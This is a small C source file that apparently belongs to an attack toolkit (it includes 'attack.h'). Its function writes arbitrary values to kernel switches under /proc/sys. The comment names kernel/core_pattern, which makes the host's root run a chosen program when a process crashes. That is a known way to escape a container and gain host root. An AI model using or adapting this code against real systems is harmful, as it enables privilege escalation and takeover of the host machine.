/*
 * /proc/sys holds the switches of the kernel, and most of them are there once for all: sysctl(8). Next to the harmless one that is written to
 * here stands kernel/core_pattern: which program of the host root runs when a process crashes. The owner of the files is 0, the host's root.
 */
#include "attack.h"

/* argv: a switch's path below /proc/sys, its new value. */
void host_sysctl(char **argv)
{
	char path[PATH_MAX];
	snprintf(path, sizeof path, "%s/sys/%s", proc(), argv[0]);
	const int fd = must(open(path, O_WRONLY), "open a switch of the kernel");
	must(write(fd, argv[1], strlen(argv[1])), "set it");
}
